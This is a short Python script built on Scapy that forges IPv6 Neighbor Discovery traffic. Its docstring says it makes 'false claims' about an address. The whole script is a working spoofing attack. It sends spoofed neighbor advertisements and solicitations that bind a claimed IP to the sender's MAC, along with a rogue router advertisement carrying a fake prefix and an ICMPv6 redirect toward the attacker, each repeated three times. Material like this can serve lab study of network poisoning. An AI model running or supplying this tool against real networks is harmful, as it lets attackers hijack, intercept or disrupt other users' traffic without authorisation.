"""Sends false claims about an IPv6 address: spoof_nd.py INTERFACE VICTIM-MAC VICTIM-IP CLAIMED-IP

The claims are a solicited advertisement, a solicitation, an advertisement to all, a router
advertisement and a redirect, each from the interface's own MAC.
"""

import sys

from scapy.all import (
    Ether,
    ICMPv6ND_NA,
    ICMPv6ND_NS,
    ICMPv6ND_RA,
    ICMPv6ND_Redirect,
    ICMPv6NDOptDstLLAddr,
    ICMPv6NDOptPrefixInfo,
    ICMPv6NDOptSrcLLAddr,
    IPv6,
    get_if_hwaddr,
    sendp,
)
from scapy.utils6 import in6_mactoifaceid

interface, victim_mac, victim_ip, claimed_ip = sys.argv[1:]
liar = get_if_hwaddr(interface)
liar_ip = "fe80::" + in6_mactoifaceid(liar)
to_victim = Ether(src=liar, dst=victim_mac)
to_all = Ether(src=liar, dst="33:33:00:00:00:01")
here = ICMPv6NDOptDstLLAddr(lladdr=liar)
from_here = ICMPv6NDOptSrcLLAddr(lladdr=liar)
sendp(
    [
        to_victim
        / IPv6(src=claimed_ip, dst=victim_ip)
        / ICMPv6ND_NA(tgt=claimed_ip, R=0, S=1, O=1)
        / here,
        to_victim / IPv6(src=claimed_ip, dst=victim_ip) / ICMPv6ND_NS(tgt=victim_ip) / from_here,
        to_all
        / IPv6(src=claimed_ip, dst="ff02::1")
        / ICMPv6ND_NA(tgt=claimed_ip, R=0, S=0, O=1)
        / here,
        to_all
        / IPv6(src=liar_ip, dst="ff02::1")
        / ICMPv6ND_RA(routerlifetime=1800)
        / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64)
        / from_here,
        to_victim
        / IPv6(src=liar_ip, dst=victim_ip)
        / ICMPv6ND_Redirect(tgt=liar_ip, dst=claimed_ip)
        / here,
    ]
    * 3,
    iface=interface,
    verbose=False,
)
